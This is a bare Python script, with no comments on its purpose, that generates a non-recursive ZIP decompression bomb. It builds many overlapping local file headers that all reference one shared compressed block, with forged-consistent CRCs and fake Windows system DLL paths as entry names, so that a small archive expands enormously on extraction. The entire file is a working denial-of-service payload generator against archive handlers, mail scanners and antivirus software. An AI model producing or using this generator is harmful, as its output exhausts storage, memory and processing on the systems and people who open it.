import struct,zlib,sys,random
n=int(sys.argv[1]); K=int(sys.argv[2]); out=sys.argv[3]; prefix=sys.argv[4].encode() if len(sys.argv)>4 else b''
random.seed(1); block=bytes(random.getrandbits(8) for _ in range(4096))
kernel_out=(block*(K//4096+1))[:K]
c=zlib.compressobj(9,zlib.DEFLATED,-15); kernel=c.compress(kernel_out)+c.flush()
kcrc=zlib.crc32(kernel_out)
names=[b'c%05d/WINDOWS/SYSTEM/EMSMDB32.DLL'%i for i in range(n)]
lfh=[b'']*n; info=[None]*n; quoted=b''
# crc of quoted+kernel_out: use crc32_combine via incremental: crc32(kernel_out, crc32(quoted)) is expensive per i; instead compute crc of kernel_out seeded
def crc_q_then_k(q):
    return zlib.crc32(kernel_out, zlib.crc32(q))
for i in range(n-1,-1,-1):
    data_len = len(kernel) if i==n-1 else 5+len(lfh[i+1])+info[i+1][1]
    usize=len(quoted)+K
    crc=crc_q_then_k(quoted)
    info[i]=(crc,data_len,usize)
    lfh[i]=struct.pack('<IHHHHHIIIHH',0x04034b50,20,0,8,0,0x21,crc,data_len,usize,len(names[i]),0)+names[i]
    quoted=lfh[i]+quoted
body=bytearray(); offs=[]
for i in range(n):
    offs.append(len(body)); body+=lfh[i]
    if i<n-1:
        q=len(lfh[i+1]); body+=struct.pack('<BHH',0,q,q^0xffff)
body+=kernel
cen=bytearray()
for i in range(n):
    crc,cs,us=info[i]
    cen+=struct.pack('<IHHHHHHIIIHHHHHII',0x02014b50,0x14,20,0,8,0,0x21,crc,cs,us,len(names[i]),0,0,0,0,0x20,offs[i])+names[i]
eocd=struct.pack('<IHHHHIIH',0x06054b50,0,0,n,n,len(cen),len(body),0)
open(out,'wb').write(prefix+bytes(body+cen+eocd))
